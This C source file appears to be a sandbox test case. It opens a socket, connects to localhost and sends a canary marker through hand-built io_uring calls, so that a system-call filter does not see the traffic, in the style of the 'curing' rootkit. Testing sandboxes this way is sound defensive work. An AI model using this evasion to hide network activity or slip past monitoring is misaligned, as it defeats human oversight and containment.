// id: nw-io-uring-net
// group: network
// aim: Make a socket, connect and send through io_uring, where a filter of system calls does not look.
// judge: outside
// canary: tcp
// tier-l: enforced
// source: io_uring rootkit class (curing)

#include <linux/io_uring.h>

static int ring;
static struct io_uring_params params;
static char *submission, *completion;
static struct io_uring_sqe *entries;

static int submit(struct io_uring_sqe entry) {
  unsigned *tail = (unsigned *)(submission + params.sq_off.tail);
  unsigned mask = *(unsigned *)(submission + params.sq_off.ring_mask), index = *tail & mask;
  entries[index] = entry;
  ((unsigned *)(submission + params.sq_off.array))[index] = index;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
  unsigned *head = (unsigned *)(completion + params.cq_off.head);
  unsigned completion_mask = *(unsigned *)(completion + params.cq_off.ring_mask);
  struct io_uring_cqe *done = (struct io_uring_cqe *)(completion + params.cq_off.cqes) + (*head & completion_mask);
  int result = done->res;
  __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
  return result;
}

static int attempt(void) {
  ring = syscall(SYS_io_uring_setup, 4, &params);
  if (ring < 0) return held("io_uring_setup: %s", strerror(errno)), 0;
  submission = mmap(0, params.sq_off.array + params.sq_entries * 4, 3, MAP_SHARED, ring, IORING_OFF_SQ_RING);
  completion = mmap(0, params.cq_off.cqes + params.cq_entries * 16, 3, MAP_SHARED, ring, IORING_OFF_CQ_RING);
  entries = mmap(0, params.sq_entries * sizeof *entries, 3, MAP_SHARED, ring, IORING_OFF_SQES);
  if (submission == MAP_FAILED || completion == MAP_FAILED || entries == MAP_FAILED) return held("mmap"), 0;
  int one = submit((struct io_uring_sqe){.opcode = 45 /* SOCKET */, .fd = AF_INET, .off = SOCK_STREAM});
  printf("socket: %d\n", one);
  struct sockaddr_in where = {.sin_family = AF_INET, .sin_port = htons(atoi(parameter("tcp_port")))};
  where.sin_addr.s_addr = htonl(0x7f000001);
  printf("connect: %d\n", submit((struct io_uring_sqe){
      .opcode = IORING_OP_CONNECT, .fd = one, .addr = (uintptr_t)&where, .off = sizeof where}));
  const char *marker = parameter("marker");
  printf("send: %d\n", submit((struct io_uring_sqe){
      .opcode = IORING_OP_SEND, .fd = one, .addr = (uintptr_t)marker, .len = strlen(marker)}));
  usleep(100000);
  return 0;
}
